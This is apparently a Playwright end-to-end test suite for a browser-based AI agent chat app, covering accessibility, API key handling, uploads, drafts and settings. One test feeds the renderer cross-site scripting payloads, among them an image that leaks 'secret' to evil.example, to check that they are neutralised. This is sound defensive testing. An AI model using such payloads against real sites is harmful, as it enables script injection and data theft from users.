import { seriousIssues } from "../support/e2e/axe.ts";
import { closeSettings } from "../support/e2e/account-test.ts";
import { connect, expect, ready, test } from "../support/e2e/test.ts";

test("axe finds no serious issue on the first page, in a chat, and at phone width", async ({ home }) => {
  expect(await seriousIssues(home)).toEqual([]);
  await home.getByRole("button", { name: "Take the guided demo" }).click();
  await expect(home.getByText("What was really done")).toBeVisible({ timeout: 45_000 });
  expect(await seriousIssues(home)).toEqual([]);
  await home.setViewportSize({ width: 390, height: 844 });
  for (const tab of ["Files", "Log", "Chat"]) {
    await home
      .getByRole("tab", { name: tab })
      .or(home.getByRole("button", { name: tab, exact: true }))
      .first()
      .click();
    expect(await seriousIssues(home), tab).toEqual([]);
  }
  expect(await home.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
});

test("connecting a model from the first page: a wrong key is told in words, then it works", async ({
  home,
  model,
}) => {
  await home.getByLabel("Base URL").fill(model.url);
  await home.getByLabel(/API key/).fill("sk-wrong");
  await home.getByLabel("Model", { exact: true }).fill("scripted");
  model.script([{ status: 401, body: { error: { message: "Incorrect API key provided: sk-wrong" } } }]);
  await home.getByRole("button", { name: "Test", exact: true }).click();
  await expect(home.getByText(/check the key/i)).toBeVisible();
  expect(await home.content()).not.toContain("sk-wrong");
  model.script([{ text: "ready" }]);
  await home.getByRole("button", { name: "Test", exact: true }).click();
  await expect(home.getByText(/answered|ready/i).last()).toBeVisible();
  await home.getByRole("button", { name: "Save and start" }).click();
  model.script([{ text: "Hello, person." }]);
  await home.getByRole("textbox", { name: "Message" }).fill("Hi");
  await home.keyboard.press("Enter");
  await expect(home.getByText("Hello, person.")).toBeVisible();
  expect(model.requests.at(-1)?.headers["authorization"]).toBe("Bearer sk-wrong");
});

test("files are added, land where the prompt says, and are sent with the message", async ({
  home,
  model,
}) => {
  await connect(home, model);
  model.script([{ text: "Got them." }]);
  const chooser = home.waitForEvent("filechooser");
  await home.getByRole("button", { name: "Add files" }).click();
  await (
    await chooser
  ).setFiles([
    { name: "data.csv", mimeType: "text/csv", buffer: Buffer.from("a,b\n1,2\n") },
    {
      name: "照片.png",
      mimeType: "image/png",
      buffer: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    },
    { name: "big.bin", mimeType: "application/octet-stream", buffer: Buffer.alloc(3 * 1024 * 1024, 7) },
  ]);
  await expect(home.getByText("big.bin")).toBeVisible();
  await home.getByRole("textbox", { name: "Message" }).fill("Look at these");
  await home.getByRole("button", { name: "Send" }).click();
  await expect(home.getByText("Got them.")).toBeVisible();
  const files = await home.evaluate(async () => {
    const session = await okcvm.open();
    const listed = await session.workspace.list("upload");
    const shell = await session.callTool("mshtools-shell", {
      command: "wc -c < upload/big.bin; cat upload/data.csv",
    });
    return {
      listed: listed.map((entry) => [entry.path.slice(session.workspace.root.length), entry.size]),
      shell: shell.output,
      root: session.workspace.root,
    };
  });
  expect(files.listed).toEqual([
    ["/upload/big.bin", 3 * 1024 * 1024],
    ["/upload/data.csv", 8],
    ["/upload/照片.png", 8],
  ]);
  expect(files.shell).toBe(`${3 * 1024 * 1024}\na,b\n1,2\n`);
  const sent = JSON.stringify(model.requests.at(-1)?.body?.messages);
  expect(sent).toContain(`${files.root}/upload/data.csv`);
  expect(sent).toContain("照片.png");
});

test("hostile Markdown does nothing", async ({ home, model, strangers }) => {
  await connect(home, model);
  model.script([
    {
      text: [
        '<img src=x onerror="window.pwned = 1"><script>window.pwned = 2</script>',
        '<iframe srcdoc="<script>top.pwned = 3</script>"></iframe><svg onload="window.pwned = 4"></svg>',
        "[link](javascript:window.pwned=5) ![leak](https://evil.example/?q=secret)",
        '<a href="data:text/html,<script>opener.pwned=6</script>">data</a> <style>body { display: none }</style>',
        '<form action="https://evil.example"><button>Pay</button></form> <math><mtext><img src=x onerror=window.pwned=7></mtext></math>',
        "The end.",
      ].join("\n\n"),
    },
  ]);
  await home.getByRole("textbox", { name: "Message" }).fill("go");
  await home.keyboard.press("Enter");
  await expect(home.getByText("The end.")).toBeVisible();
  expect(await home.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined();
  const left = await home.evaluate(() => {
    const log = document.querySelector("main");
    return {
      elements: log?.querySelectorAll(
        "script, iframe[srcdoc], form[action], style, img[src^='http'], [onerror], [onload]",
      ).length,
      links: [...(log?.querySelectorAll("a") ?? [])]
        .map((a) => a.protocol)
        .filter((protocol) => !["http:", "https:", "mailto:", ":"].includes(protocol)),
    };
  });
  expect(left).toEqual({ elements: 0, links: [] });
  expect(strangers).toEqual([]);
});

test("a conversation is renamed, deleted and brought back; a second tab shares it, and goes on when the first is closed", async ({
  home,
  context,
  app,
}) => {
  await home.evaluate(async () => {
    const session = await okcvm.open();
    await session.workspace.write("a.txt", "kept");
    await okcvm.conversations.rename(session.id, "My work");
    await okcvm.settings.set({ demo: true });
  });
  const list = home.getByRole("navigation", { name: "Conversations" });
  await expect(list.getByText("My work")).toBeVisible();
  await list.getByText("My work").hover();
  await list.getByRole("button", { name: "Delete My work" }).click();
  await expect(list.getByText("My work")).toBeHidden();
  await home.getByRole("button", { name: "Undo" }).click();
  await expect(list.getByText("My work")).toBeVisible();
  await list.getByText("My work").click();
  const second = await context.newPage();
  await second.goto(app.url);
  await ready(second);
  await second.getByRole("navigation", { name: "Conversations" }).getByText("My work").click();
  await expect(second.getByRole("heading", { level: 1 })).toContainText("My work");
  const read = (): Promise<[boolean, string]> =>
    second.evaluate(async () => {
      const mine = (await okcvm.conversations.list()).find((one) => one.title === "My work");
      const session = await okcvm.open(mine?.id);
      return [session.following, await session.workspace.readText("a.txt")];
    });
  expect(await read()).toEqual([true, "kept"]);
  await home.close();
  await expect.poll(read).toEqual([false, "kept"]);
});

test("a bundle of one's own is used, and a bad one refused with line and reason", async ({ home, model }) => {
  await connect(home, model);
  model.script([{ text: "ok" }]);
  const outcome = await home.evaluate(async () => {
    const bad = await okcvm.settings
      .loadBundle(
        "prompt",
        '{\n  "tools": [\n    {"name": "mshtools-shell", "parameters": {"type": "string"}}\n  ]\n}',
      )
      .catch((error: Error) => error.message);
    const before = await okcvm.settings.bundle();
    await okcvm.settings.loadBundle(
      "You are a test. Today is {{date}}.",
      '[{"name": "mshtools-todo_read", "description": "Mine.", "parameters": {"type": "object", "properties": {}}}]',
    );
    const session = await okcvm.open();
    for await (const event of session.send("hi")) void event;
    return { bad, before, names: okcvm.registry.names() };
  });
  expect(outcome.bad).toMatch(/line 3/);
  expect(outcome.before.builtIn).toBe(true);
  expect(outcome.names).toEqual(["mshtools-todo_read"]);
  const body = model.requests.at(-1)?.body;
  expect(body?.messages[0]?.content).toMatch(/^You are a test\. Today is \d{4}-\d\d-\d\d\.$/);
  expect(body?.tools?.map((tool) => tool.function.description)).toEqual(["Mine."]);
  await home.reload();
  await ready(home);
  expect(await home.evaluate(() => okcvm.registry.names())).toEqual(["mshtools-todo_read"]);
});

test("a reader who scrolls up is left there while the reply goes on, and finds the way back", async ({
  home,
  model,
}) => {
  await connect(home, model);
  const lines = Array.from({ length: 120 }, (_, n) => `Line ${n} of a long reply.`).join("\n\n");
  model.script([{ text: `${lines}\n\nThe very end.`, pieceLength: 30, chunkDelayMs: 25 }]);
  await home.getByRole("textbox", { name: "Message" }).fill("Write");
  await home.keyboard.press("Enter");
  await expect(home.getByText("Line 40 of")).toBeVisible();
  const scroller = home.getByRole("log", { name: "Messages" });
  await scroller.hover();
  await home.mouse.wheel(0, -500);
  await expect(home.getByRole("button", { name: "New below" })).toBeVisible();
  const at = await scroller.evaluate((element) => element.scrollTop);
  await expect(home.getByText("The very end.")).toBeAttached({ timeout: 30_000 });
  expect(Math.abs((await scroller.evaluate((element) => element.scrollTop)) - at)).toBeLessThan(40);
  await home.getByRole("button", { name: "New below" }).click();
  await expect(home.getByText("The very end.")).toBeInViewport();
});

test("a draft lasts over a reload, with its files", async ({ home, model }) => {
  await connect(home, model);
  const chooser = home.waitForEvent("filechooser");
  await home.getByRole("button", { name: "Add files" }).click();
  await (
    await chooser
  ).setFiles([{ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("kept") }]);
  await expect(home.getByRole("button", { name: "Remove notes.txt" })).toBeVisible();
  await home.getByRole("textbox", { name: "Message" }).fill("Half a sentence");
  await expect
    .poll(() => home.evaluate(() => JSON.stringify({ ...localStorage })))
    .toMatch(/notes\.txt.*Half a sentence|Half a sentence.*notes\.txt/);
  await home.reload();
  await ready(home);
  await expect(home.getByRole("textbox", { name: "Message" })).toHaveValue("Half a sentence");
  await expect(home.getByRole("button", { name: "Remove notes.txt" })).toBeVisible();
  model.script([{ text: "Read." }]);
  await home.getByRole("textbox", { name: "Message" }).press("Enter");
  await expect(home.getByText("Read.", { exact: true })).toBeVisible();
  expect(JSON.stringify(model.requests.at(-1)?.body?.messages)).toContain("upload/notes.txt");
  expect(await home.evaluate(() => JSON.stringify({ ...localStorage }))).not.toContain("Half a sentence");
});

test("the back button leads to the conversation before", async ({ home }) => {
  const [first, second] = await home.evaluate(async () => {
    await okcvm.settings.set({ demo: true });
    const one = await okcvm.open();
    await okcvm.conversations.rename(one.id, "First one");
    const two = await okcvm.conversations.create();
    await okcvm.conversations.rename(two.id, "Second one");
    return [one.id, two.id];
  });
  await home.getByRole("navigation", { name: "Conversations" }).getByText("Second one").click();
  await expect(home.getByRole("heading", { level: 1 })).toContainText("Second one");
  expect(home.url()).toContain(second);
  await home.goBack();
  await expect(home.getByRole("heading", { level: 1 })).toContainText("First one");
  expect(home.url()).toContain(first);
});

test("what is being typed outlives a change that comes from elsewhere", async ({ home }) => {
  const changeElsewhere = (maxSteps: number) =>
    home.evaluate(async (value) => {
      await okcvm.settings.set({ maxSteps: value });
      const session = await okcvm.open();
      await okcvm.conversations.rename(session.id, `Title ${value}`);
    }, maxSteps);
  await home.getByRole("button", { name: "Settings" }).first().click();
  await home.getByRole("tab", { name: "Agent" }).click();
  const panel = home.getByRole("tabpanel");
  const prompt = panel.getByRole("textbox", { name: "System prompt" });
  await prompt.fill("Be brief.");
  await changeElsewhere(61);
  await expect(panel.getByRole("spinbutton")).toHaveValue("61");
  await expect(prompt).toHaveValue("Be brief.");
  await prompt.blur();
  await home.getByRole("tab", { name: "Engine" }).click();
  await panel.getByLabel("WebContainer API key").fill("own-key");
  await changeElsewhere(62);
  await panel.getByLabel("WebContainer API key").blur();
  await expect
    .poll(() => home.evaluate(() => okcvm.settings.get()))
    .toMatchObject({ systemPrompt: "Be brief.", maxSteps: 62, engine: { webcontainerKey: "own-key" } });
  await home.keyboard.press("Escape");
  await home.getByRole("heading", { level: 1 }).getByRole("button").click();
  const title = home.getByRole("textbox", { name: "Title" });
  await title.fill("My own");
  await changeElsewhere(63);
  await expect(title).toHaveValue("My own");
  await title.press("Enter");
  await expect(home.getByRole("heading", { level: 1 })).toHaveText("My own");
});

test("what is typed right after the palette's keys goes into it, also while its code is loading", async ({
  home,
}) => {
  await home.evaluate(() => okcvm.settings.set({ demo: true }));
  const composer = home.getByRole("textbox", { name: "Message" });
  await composer.fill("a draft");
  let release = (): void => undefined;
  const held = new Promise<void>((resolve) => (release = resolve));
  await home.route("**/palette-*.js", async (route) => {
    await held;
    await route.continue();
  });
  await home.keyboard.press("Control+k");
  await home.keyboard.type("never mind");
  await home.keyboard.press("Escape");
  await home.keyboard.press("Control+k");
  await home.keyboard.type("opex");
  await home.keyboard.press("Backspace");
  await home.keyboard.type("n the acc");
  await home.keyboard.press("Enter");
  release();
  const field = home.getByRole("combobox", { name: "Commands" });
  await expect(field).toHaveValue("open the acc");
  await home.keyboard.type("ount");
  await expect(field).toHaveValue("open the account");
  await home.keyboard.press("Enter");
  await expect(home.getByRole("tabpanel", { name: "Account" })).toBeVisible();
  await closeSettings(home);
  await expect(composer).toHaveValue("a draft");
  // The second time it is there at once.
  await home.keyboard.press("Control+k");
  await home.keyboard.type("theme");
  await expect(field).toHaveValue("theme");
});
